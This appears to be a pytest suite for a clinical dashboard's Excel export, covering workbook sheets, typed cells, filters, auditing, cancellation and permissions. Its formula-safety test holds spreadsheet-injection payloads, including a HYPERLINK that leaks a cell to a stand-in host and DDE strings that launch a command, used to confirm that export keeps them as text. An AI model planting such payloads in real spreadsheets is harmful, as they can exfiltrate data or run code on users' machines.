"""The cohort, long-format and per-patient workbooks, reopened with openpyxl: sheets,
headers, cell types and number formats, frozen headers, autofilters, widths, band fills,
charts, filters, the audit record, progress and Cancel."""

from __future__ import annotations

import datetime as dt

import pytest
from openpyxl.chart import LineChart

from teamdash.clinical import analytics, disciplines, instruments
from teamdash.errors import Cancelled, NotFound, PermissionDenied, ValidationError
from teamdash.exchange.export import ExportOptions, export
from teamdash.services import audit, measurements, staff
from teamdash.services.auth import SYSTEM, Actor
from teamdash.storage.models import ActionItem, CheckIn, Goal, Measurement, Patient, Session
from tests.demo_facts import CASE_MANAGER, DEMO_PATIENTS, SAFETY_PATIENT, clinic_id
from tests.test_export_support import NOW, all_cells, column, header, records, reopen

DATE_FORMATS = {"yyyy-mm-dd", "yyyy-mm-dd hh:mm"}


def run(path, **options):
    return export(SYSTEM, path, ExportOptions(**options), now=NOW)


@pytest.fixture
def cohort(clinic, tmp_path):
    path = tmp_path / "cohort.xlsx"
    result = run(path)
    return result, reopen(path)


# --- the cohort workbook ------------------------------------------------------------------------


def test_cohort_workbook_has_its_sheets_and_one_row_per_patient(cohort):
    result, wb = cohort
    assert wb.sheetnames == ["Cohort", "Measurements", "Sessions", "Goals", "Check-ins", "Action items", "About"]
    ws = wb["Cohort"]
    assert header(ws)[:4] == ["Patient ID", "Given name", "Family name", "Date of birth"]
    for inst_header in (
        "ODI baseline",
        "ODI latest",
        "ODI change",
        "ODI % change",
        "ODI MCID met",
        "ODI reliable change",
        "PHQ-9 baseline band",
        "PHQ-9 latest band",
    ):
        assert inst_header in header(ws)
    ids = [c.value for c in column(ws, "Patient ID")]
    assert len(ids) == DEMO_PATIENTS == result.patients
    assert ids == sorted(ids) == sorted(cid for (cid,) in Patient.select(Patient.clinic_id).tuples())
    assert result.rows["Cohort"] == DEMO_PATIENTS


def test_every_table_has_a_frozen_bold_header_an_autofilter_over_all_rows_and_fitted_widths(cohort):
    _, wb = cohort
    for ws in wb.worksheets:
        last = ws.cell(row=1, column=ws.max_column).column_letter
        assert ws.auto_filter.ref == f"A1:{last}{ws.max_row}", ws.title
        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2"), ws.title
        assert all(c.font.b for c in ws[1] if c.value), ws.title
        for cell in ws[1]:
            width = ws.column_dimensions[cell.column_letter].width
            assert 6 <= width <= 90, (ws.title, cell.value, width)
    assert wb["Cohort"].freeze_panes == "D2"  # ID and names stay in view when scrolling right
    ws = wb["Cohort"]
    longest_name = max(len(c.value) for c in column(ws, "Family name"))
    assert ws.column_dimensions["C"].width >= longest_name


def test_cells_are_typed_dates_numbers_percentages_and_booleans(cohort):
    _, wb = cohort
    ws = wb["Cohort"]
    for cell in column(ws, "Date of birth"):
        assert isinstance(cell.value, dt.datetime) and cell.number_format == "yyyy-mm-dd"
    for cell in column(ws, "Age"):
        assert isinstance(cell.value, int) and cell.data_type == "n"
    odi = [c for c in column(ws, "ODI baseline") if c.value is not None]
    assert odi and all(c.data_type == "n" and c.number_format == "0" for c in odi)
    pct = [c for c in column(ws, "ODI % change") if c.value is not None]
    assert pct and all(c.data_type == "n" and "%" in c.number_format and -1.5 < c.value < 1.5 for c in pct)
    flags = [c for c in column(ws, "ODI MCID met") if c.value is not None]
    assert flags and all(c.data_type == "b" and c.number_format == '"TRUE";"TRUE";"FALSE"' for c in flags)
    ws = wb["Measurements"]
    for cell in column(ws, "Taken at")[:200]:
        assert isinstance(cell.value, dt.datetime) and cell.number_format == "yyyy-mm-dd hh:mm"
    totals = [c for c in column(ws, "Total") if c.value is not None]
    assert all(c.data_type == "n" for c in totals)
    assert all(c.data_type == "b" for c in column(ws, "Safety item positive"))
    items = [c for c in column(ws, "Item 1") if c.value is not None]
    assert sum(c.data_type == "n" for c in items) > 0.9 * len(items)  # PSQI/diary clock times stay text
    goals = wb["Goals"]
    progress = [c for c in column(goals, "Progress") if c.value is not None]
    assert progress and all(c.number_format == "0%" and 0 <= c.value <= 1 for c in progress)


def test_no_cell_in_any_workbook_is_a_formula(clinic, tmp_path):
    for kind, extra in (("cohort", {}), ("long", {}), ("patient", {"patient_id": SAFETY_PATIENT})):
        path = tmp_path / f"{kind}.xlsx"
        run(path, kind=kind, **extra)
        assert [f"{sheet}!{c.coordinate}" for sheet, c in all_cells(reopen(path)) if c.data_type == "f"] == []


def test_cohort_figures_match_the_analytics(cohort):
    _, wb = cohort
    ws = wb["Cohort"]
    row = next(r for r in records(ws) if r["Patient ID"] == "TD-00005")
    patient = Patient.get(Patient.clinic_id == "TD-00005")
    odi = instruments.get("odi")
    points = [
        analytics.Point(m.taken_at, m.total, m.id) for m in measurements.list_measurements(SYSTEM, patient.id, "odi")
    ]
    first, last = analytics.baseline(points, patient.episode_start), analytics.latest(points)
    change = analytics.change(odi, first.value, last.value)
    assert row["ODI baseline"] == pytest.approx(first.value)
    assert row["ODI latest"] == pytest.approx(last.value)
    assert row["ODI change"] == pytest.approx(change.points)
    assert row["ODI % change"] == pytest.approx(change.percent / 100)
    assert row["ODI MCID met"] is change.mcid_met
    assert row["ODI baseline band"] == odi.band_for(first.value).label


def test_band_columns_have_conditional_fills_for_every_band(cohort):
    _, wb = cohort
    ws = wb["Cohort"]
    letter = ws.cell(row=1, column=header(ws).index("PHQ-9 latest band") + 1).column_letter
    ranges = {str(cf.sqref): cf.rules for cf in ws.conditional_formatting}
    rules = ranges[f"{letter}2:{letter}{ws.max_row}"]
    labels = {rule.formula[0].strip('"') for rule in rules}
    assert labels == {b.label for b in instruments.get("phq9").bands}
    fills = {rule.formula[0].strip('"'): rule.dxf.fill.fgColor.rgb for rule in rules}
    assert fills["Minimal"] != fills["Severe"]


def test_long_sheets_hold_every_row(cohort):
    result, wb = cohort
    assert wb["Measurements"].max_row - 1 == Measurement.select().count() == result.rows["Measurements"]
    assert wb["Sessions"].max_row - 1 == Session.select().count()
    assert wb["Goals"].max_row - 1 == Goal.select().count()
    assert wb["Check-ins"].max_row - 1 == CheckIn.select().count()
    assert wb["Action items"].max_row - 1 == ActionItem.select().count()
    m = Measurement.select().where(Measurement.instrument == "phq9").order_by(Measurement.id).first()
    clinic_id = Patient.get_by_id(m.patient_id).clinic_id
    row = next(
        r
        for r in records(wb["Measurements"])
        if r["Patient ID"] == clinic_id and r["Instrument"] == "phq9" and r["Taken at"] == m.taken_at
    )
    assert [row[f"Item {n}"] for n in range(1, 10)] == m.responses
    assert row["Total"] == m.total and row["Band"] == m.band and row["Measure"] == "PHQ-9"


def test_about_sheet_says_what_when_who_filters_and_licences(clinic, tmp_path):
    path = tmp_path / "about.xlsx"
    run(path, status="active", discipline="psychology", date_from=dt.date(2026, 6, 1))
    about = {(r["Section"], r["Item"]): r["Value"] for r in records(reopen(path)["About"])}
    assert about[("Export", "Exported at")] == NOW
    assert about[("Export", "Exported by")] == "TeamDash (system) (admin)"
    assert about[("Filters", "Status")] == "active"
    assert about[("Filters", "Discipline")] == "Psychology"
    assert about[("Filters", "Date from")] == dt.datetime(2026, 6, 1)
    assert about[("Filters", "Date to")] == "no limit"
    assert about[("Instrument PHQ-9", "Licence")] == " ".join(instruments.get("phq9").licence.split())
    assert ("Instrument ODI", "Licence") not in about  # only the filtered discipline's measures


# --- filters ------------------------------------------------------------------------------------


def test_status_and_case_manager_filters(clinic, tmp_path):
    path = tmp_path / "f.xlsx"
    manager = staff.find_by_name(SYSTEM, CASE_MANAGER)
    run(path, status="active", case_manager_id=manager.id)
    rows = records(reopen(path)["Cohort"])
    expected = Patient.select().where((Patient.status == "active") & (Patient.case_manager == manager.id)).count()
    assert 0 < len(rows) == expected < DEMO_PATIENTS
    assert {r["Status"] for r in rows} == {"active"} and {r["Case manager"] for r in rows} == {CASE_MANAGER}
    kept = {r["Patient ID"] for r in rows}
    assert {r["Patient ID"] for r in records(reopen(path)["Sessions"])} <= kept


def test_discipline_filter_keeps_that_disciplines_measures_sessions_and_goals(clinic, tmp_path):
    path = tmp_path / "f.xlsx"
    run(path, discipline="sleep")
    wb = reopen(path)
    sleep_ids = {i.id for i in instruments.library().values() if i.discipline == "sleep"}
    assert {r["Instrument"] for r in records(wb["Measurements"])} <= sleep_ids
    assert {r["Discipline"] for r in records(wb["Sessions"])} == {"sleep"}
    assert {r["Discipline"] for r in records(wb["Goals"])} == {"sleep"}
    cohort_headers = header(wb["Cohort"])
    assert "ISI baseline" in cohort_headers and "ODI baseline" not in cohort_headers


def test_date_range_keeps_rows_dated_inside_it(clinic, tmp_path):
    path = tmp_path / "f.xlsx"
    start, end = dt.date(2026, 9, 1), dt.date(2026, 9, 30)
    run(path, date_from=start, date_to=end)
    wb = reopen(path)
    taken = [r["Taken at"] for r in records(wb["Measurements"])]
    assert taken and all(start <= t.date() <= end for t in taken)
    held = [r["Held at"] for r in records(wb["Sessions"])]
    assert held and all(start <= t.date() <= end for t in held)
    in_db = (
        Measurement.select()
        .where((Measurement.taken_at >= dt.datetime(2026, 9, 1)) & (Measurement.taken_at < dt.datetime(2026, 10, 1)))
        .count()
    )
    assert len(taken) == in_db
    measured = {r["Patient ID"] for r in records(wb["Measurements"])}
    for r in records(wb["Cohort"]):  # in the programme during September, or seen in it
        assert r["Referral date"].date() <= end
        assert (r["Status"] == "active" or r["Status since"].date() >= start) or r["Patient ID"] in measured


def test_one_patients_rows(clinic, tmp_path):
    path = tmp_path / "f.xlsx"
    patient = Patient.get(Patient.clinic_id == "TD-00010")
    run(path, kind="long", patient_id=patient.id)
    wb = reopen(path)
    assert [r["Patient ID"] for r in records(wb["Patients"])] == ["TD-00010"]
    assert {r["Patient ID"] for r in records(wb["Measurements"])} == {"TD-00010"}
    assert len(records(wb["Measurements"])) == Measurement.select().where(Measurement.patient == patient.id).count()


# --- the long-format workbook -------------------------------------------------------------------


def test_long_workbook_sheets_and_patient_columns(clinic, tmp_path):
    path = tmp_path / "long.xlsx"
    run(path, kind="long")
    wb = reopen(path)
    assert wb.sheetnames == [
        "Patients",
        "Staff",
        "Measurements",
        "Sessions",
        "Goals",
        "Check-ins",
        "Action items",
        "Decisions",
        "Safety acknowledgements",
        "Graded activity plans",
        "Graded activity weeks",
        "Courses",
        "Practice weeks",
        "Plan items",
        "Sleep diary",
        "Flares",
        "Support contacts",
        "Return-to-work phases",
        "About",
    ]
    patients = records(wb["Patients"])
    assert len(patients) == DEMO_PATIENTS
    first = Patient.get(Patient.clinic_id == "TD-00001")
    row = next(r for r in patients if r["Patient ID"] == "TD-00001")
    assert row["Given name"] == first.given_name and row["Date of birth"].date() == first.date_of_birth
    assert row["Research consent"] is first.research_consent
    assert [r["Username"] for r in records(wb["Staff"])] and header(wb["Staff"])[:2] == ["Username", "Full name"]
    # what the sheets do not carry is said, so nobody takes the workbook for a whole copy
    about = {(r["Section"], r["Item"]): r["Value"] for r in records(wb["About"])}
    left_out = about[("Contents", "Not in this workbook")]
    assert all(words in left_out for words in ("earlier episodes", "status history", "team meetings", "passwords"))
    # the team's newer fields travel: action items' discipline, a check-in's plan and next date
    assert "Discipline" in header(wb["Action items"])
    assert {"Period from", "Plan", "Next check-in"} <= set(header(wb["Check-ins"]))
    assert "On handout" in header(wb["Support contacts"])


# --- the per-patient workbook -------------------------------------------------------------------


def test_patient_workbook_summary_discipline_sheets_tables_and_charts(clinic, tmp_path):
    path = tmp_path / "patient.xlsx"
    patient = Patient.get(Patient.id == SAFETY_PATIENT)
    result = run(path, kind="patient", patient_id=patient.id)
    wb = reopen(path)
    assert wb.sheetnames == [
        "Summary",
        "Physical therapy",
        "Psychology",
        "Nutrition",
        "Sleep medicine",
        "Social work",
        "About",
    ]
    summary = wb["Summary"]
    details = {summary.cell(r, 1).value: summary.cell(r, 2) for r in range(2, 20)}
    assert details["Patient ID"].value == clinic_id(SAFETY_PATIENT)
    assert details["Date of birth"].value.date() == patient.date_of_birth
    assert details["Date of birth"].number_format == "yyyy-mm-dd"
    assert details["Status"].value == disciplines.patient_status_label(patient.status) == "Active"
    # NamedItems: the PSFS activities, one row per activity (the demo names them)
    assert set(summary.tables) == {"Patient", "KeyMeasures", "NamedItems", "Goals", "OpenActions"}
    pt = wb["Physical therapy"]
    assert {"PT_Measures", "PT_Sessions", "PT_Goals"} == set(pt.tables)
    for table in pt.tables.values():
        assert table.autoFilter is not None and table.autoFilter.ref == table.ref
    assert pt.freeze_panes == "A2"
    charts = pt._charts
    assert charts and all(isinstance(c, LineChart) for c in charts)
    # The first chart plots the NRS pain block: dates against totals on this sheet.
    refs = charts[0].series[0].val.numRef.f
    assert refs.startswith("'Physical therapy'!$C$")
    first_row = int(refs.split("$")[-1].split(":")[0]) if ":" not in refs else int(refs.split(":")[0].split("$")[-1])
    assert pt.cell(first_row, 1).value == "NRS pain" and isinstance(pt.cell(first_row, 2).value, dt.datetime)
    pain = (
        Measurement.select().where((Measurement.patient == patient.id) & (Measurement.instrument == "nrs_pain")).count()
    )
    last_row = int(refs.split("$")[-1])
    assert last_row - first_row + 1 == pain
    assert result.rows["Physical therapy"] > 0
    # Each discipline sheet with two or more points of a key measure has its chart.
    assert len(wb["Psychology"]._charts) >= 3


def test_patient_workbook_needs_a_patient_that_matches(clinic, tmp_path):
    with pytest.raises(ValidationError, match="needs a patient"):
        run(tmp_path / "p.xlsx", kind="patient")
    dropped = Patient.get(Patient.status == "dropped_out")
    with pytest.raises(NotFound, match="nothing was exported"):
        run(tmp_path / "p.xlsx", kind="patient", patient_id=dropped.id, status="active")
    assert not (tmp_path / "p.xlsx").exists()


# --- safety against formulas ---------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_looks_like_a_formula_comes_back_as_the_same_text(clinic, tmp_path):
    patient = Patient.get(Patient.clinic_id == "TD-00003")
    rows = Measurement.select().where(Measurement.patient == patient.id).order_by(Measurement.id).limit(len(INJECTIONS))
    for m, text in zip(rows, INJECTIONS):
        Measurement.update(note=text).where(Measurement.id == m.id).execute()  # stored as entered elsewhere
    Patient.update(flag_note=INJECTIONS[0]).where(Patient.id == patient.id).execute()
    path = tmp_path / "long.xlsx"
    run(path, kind="long", patient_id=patient.id)
    wb = reopen(path)
    notes = [c for c in column(wb["Measurements"], "Note") if c.value is not None]
    # XML reads a raw carriage return back as a line feed (end-of-line normalisation);
    # the text is otherwise the same, and a string, never a formula.
    assert sorted(c.value.replace("\r", "\n") for c in notes) == sorted(t.replace("\r", "\n") for t in INJECTIONS)
    assert all(c.data_type == "s" for c in notes)
    hyperlink = next(c for c in notes if c.value.startswith("=HYPERLINK"))
    assert hyperlink.value == INJECTIONS[0] and hyperlink.quotePrefix  # Excel keeps it text even when edited
    flag = column(wb["Patients"], "Flag note")[0]
    assert flag.value == INJECTIONS[0] and flag.data_type == "s"
    assert [c for _, c in all_cells(wb) if c.data_type == "f"] == []


def test_text_a_workbook_cannot_hold_is_cleaned_not_fatal(clinic, tmp_path):
    patient = Patient.get(Patient.clinic_id == "TD-00004")
    m = Measurement.select().where(Measurement.patient == patient.id).first()
    Measurement.update(note="bell\x07 and form\x0c feed").where(Measurement.id == m.id).execute()
    path = tmp_path / "long.xlsx"
    run(path, kind="long", patient_id=patient.id)
    notes = [c.value for c in column(reopen(path)["Measurements"], "Note") if c.value]
    assert notes == ["bell\ufffd and form\ufffd feed"]


# --- audit, progress, cancel, permissions -----------------------------------------------------------


def test_every_export_is_audited_with_who_filters_and_row_counts(clinic, tmp_path):
    member = staff.create_user(SYSTEM, username="auditor", full_name="Ada Auditor", role="clinician", discipline="pt")
    actor = Actor(member.id, member.username, member.full_name, member.role)
    path = tmp_path / "audited.xlsx"
    result = export(actor, path, ExportOptions(status="discharged", discipline="pt"), now=NOW)
    event = audit.events(action_prefix="export", limit=1)[0]
    assert event.id == result.audit_event_id
    assert event.actor_name == "Ada Auditor" and event.action == "export"
    assert event.details["filters"] == {"status": "discharged", "discipline": "pt"}
    assert event.details["rows"] == result.rows and event.details["total_rows"] == result.total_rows > 0
    assert event.details["patients"] == result.patients
    assert event.details["file"] == str(path)


def test_progress_is_reported_up_to_the_total(clinic, tmp_path):
    seen = []
    export(SYSTEM, tmp_path / "p.xlsx", ExportOptions(), progress=lambda d, t: seen.append((d, t)), now=NOW)
    assert len(seen) > 3
    assert [d for d, _ in seen] == sorted(d for d, _ in seen)
    total = seen[-1][1]
    assert seen[-1] == (total, total) and total >= Measurement.select().count()


def test_cancel_stops_the_export_leaves_no_file_and_no_audit(clinic, tmp_path):
    path = tmp_path / "cancelled.xlsx"
    calls = []
    before = audit.latest_event_id()

    def cancelled():
        calls.append(1)
        return len(calls) >= 3

    with pytest.raises(Cancelled):
        export(SYSTEM, path, ExportOptions(kind="long"), cancelled=cancelled, now=NOW)
    assert not path.exists() and [p.name for p in tmp_path.iterdir() if ".xlsx" in p.name] == []
    assert audit.latest_event_id() == before


def test_a_failed_export_keeps_the_previous_file(clinic, tmp_path):
    path = tmp_path / "report.xlsx"
    run(path)
    before = path.read_bytes()
    with pytest.raises(Cancelled):
        export(SYSTEM, path, ExportOptions(), overwrite=True, cancelled=lambda: True, now=NOW)
    assert path.read_bytes() == before


def test_viewers_may_not_export(clinic, tmp_path):
    viewer = Actor(None, "v", "Vera Viewer", "viewer")
    with pytest.raises(PermissionDenied):
        export(viewer, tmp_path / "x.xlsx", ExportOptions())
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.parametrize(
    ("options", "path", "message"),
    [
        ({"date_from": dt.date(2026, 5, 1), "date_to": dt.date(2026, 4, 1)}, "x.xlsx", "ends .* before it starts"),
        ({"status": "asleep"}, "x.xlsx", "'asleep' is not one of"),
        ({"discipline": "yoga"}, "x.xlsx", "'yoga' is not one of"),
        ({"kind": "pivot"}, "x.xlsx", "'pivot' is not one of"),
        ({"kind": "patient", "patient_id": 1, "deidentify": True}, "x.xlsx", "cannot be de-identified"),
        ({}, "x.csv", "must end in .xlsx"),
        ({}, "missing-folder/x.xlsx", "does not exist"),
    ],
)
def test_bad_options_are_refused_before_anything_is_written(clinic, tmp_path, options, path, message):
    with pytest.raises(ValidationError, match=message):
        export(SYSTEM, tmp_path / path, ExportOptions(**options))
    assert [p.name for p in tmp_path.iterdir() if not p.name.startswith("clinic.sqlite3")] == []
